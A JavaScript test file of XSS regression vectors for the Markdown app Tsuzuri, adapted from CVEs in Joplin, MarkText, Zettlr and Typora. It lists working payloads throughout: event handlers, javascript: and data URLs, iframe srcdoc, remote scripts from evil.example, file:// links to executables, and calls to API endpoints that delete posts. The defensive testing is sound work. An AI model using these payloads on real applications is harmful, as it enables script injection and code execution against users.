// Regressions for the XSS bugs that became code execution in other Markdown editors, each rewritten for
// Tsuzuri (the app's own pages and API instead of the editor's): what the attack was, in a post body.
import { vectors } from "./xss-vector.js";

export const CVE_VECTORS = vectors("cve", [
  // Joplin: HTML in a note's content ran with Node integration (2018, issue #500), an <embed> loaded
  // active content (CVE-2020-15930), and later bypasses of its link and HTML sanitisers.
  ["Joplin 2018: attribute breakout in note content", '"><img src=1 onerror="top.__pwned=\'joplin\'">'],
  ["Joplin CVE-2020-15930: embed of an HTML data URL", '<embed src="data:text/html,<script>top.__pwned=1</script>">'],
  ["Joplin CVE-2020-15930: embed of a remote SVG", '<embed src="https://evil.example/x.svg" type="image/svg+xml">'],
  ["Joplin: link to a local executable", '[open](file:///usr/bin/xcalc) <a href="file:///C:/Windows/System32/calc.exe">calc</a>'],
  [
    "Joplin: resource-looking link followed by script",
    '<a href=":/0123456789abcdef0123456789abcdef javascript:alert(1)">res</a> [r](:/0123456789abcdef0123456789abcdef#javascript:alert(1))',
  ],
  ["Joplin: iframe srcdoc in a note", '<iframe srcdoc="<img src=x onerror=top.__pwned=1>"></iframe>'],
  [
    "Joplin: object with an SVG data URL",
    "<object data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\"></object>",
  ],
  // MarkText: HTML inside a Mermaid fence was rendered (CVE-2022-24123), so was a fence's language
  // (CVE-2021-29996); javascript: links ran on click (issue #2601); an old DOMPurify let an mXSS through.
  [
    "MarkText CVE-2022-24123: HTML in a mermaid sequence diagram",
    "```mermaid\nsequenceDiagram\n A ->> B: <img src=1 onerror=\"top.__pwned='marktext'\">\n B -> A: ok\n```",
  ],
  [
    "MarkText CVE-2022-24123: HTML in a mermaid flowchart label",
    '```mermaid\ngraph LR\n  a["<iframe src=javascript:alert(1)></iframe>"] --> b\n```',
  ],
  ["MarkText CVE-2021-29996: fence language of markup", "```<style/onload=alert(1)>\n\n```"],
  ["MarkText CVE-2021-29996: fence language closing the class attribute", '```"><svg/onload=alert(1)>\nx\n```'],
  [
    "MarkText issue #2601: javascript: links, HTML and Markdown",
    "<a href=\"javascript:top.__pwned='marktext'\">evil1</a>\n\n[evil2](javascript:top.__pwned='marktext')",
  ],
  ["MarkText issue #2990: img onerror in a table row", "<table><tr><img src onerror=\"top.__pwned='marktext'\"></tr></table>"],
  [
    "MarkText issue #1390: embed of an SVG with a script",
    '<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml">',
  ],
  // Zettlr: an <iframe> with an onload handler ran with Node integration (CVE-2021-26835, issue #1716);
  // its iframe embeds (video sites) were the way in.
  ["Zettlr CVE-2021-26835: iframe onload", "<iframe src=x onload=\"top.__pwned='zettlr'\"></iframe>"],
  [
    "Zettlr CVE-2021-26835: video embed with a handler",
    '<iframe width="560" height="315" src="https://www.youtube.com/embed/x" onload="alert(1)" allowfullscreen></iframe>',
  ],
  ["Zettlr CVE-2021-26835: iframe of an HTML data URL", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'],
  // Typora: a post could embed the app's own updater page, whose query parameters it rendered as HTML
  // (CVE-2023-2317); earlier, outline, math and mermaid rendering ran HTML.
  [
    "Typora CVE-2023-2317: embed of an app page with HTML in its query",
    '<embed src="/?token=x&labels=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E" style="height:0">',
  ],
  [
    "Typora CVE-2023-2317: iframe and object of app pages",
    '<iframe src="/"></iframe><object data="/index.html?x=%3Cscript%3Ealert(1)%3C/script%3E"></object>',
  ],
  [
    "Typora CVE-2023-2317: link and image to the app's API",
    '[list](/api/listPosts) ![x](/api/deletePost?path=posts/a.md) <img src="/api/exportSite?dir=/tmp">',
  ],
  [
    "Typora CVE-2023-2317: app-scheme URLs",
    '<embed src="tsuzuri://app/index.html"> [x](tsuzuri://journal/posts/a.md) ![y](tsuzuri-journal://x/a.svg)',
  ],
  ["Typora 2019: outline heading with an escaped script tag", "# 1\n#  \\<script src=https://evil.example/xss.js\\>\\</script\\>"],
  ["Typora 2019: math block closing a script", "$$\n</script><img src=1 onerror=alert(1)>\n$$"],
  ["Typora 2019: image destination of a script tag", '![](<script  #src="https://evil.example/1.js">)'],
  ["Typora 2019: ruby holding an iframe srcdoc", '<ruby> 漢 <rt> <iframe srcdoc="<img src=1 onerror=alert(1)>"></iframe>ㄢˋ </rt> </ruby>'],
  ["Typora 2019: svg then iframe srcdoc", '<svg>\n<iframe srcdoc="<img src=1 onerror=alert(1)>"></iframe>'],
  [
    "Typora 2019: image map area to a file: URL",
    '<img src="a.png" usemap="#m"><map name="m"><area shape="rect" coords="0,0,82,126" href="file:///Applications/Calculator.app"></map>',
  ],
]);
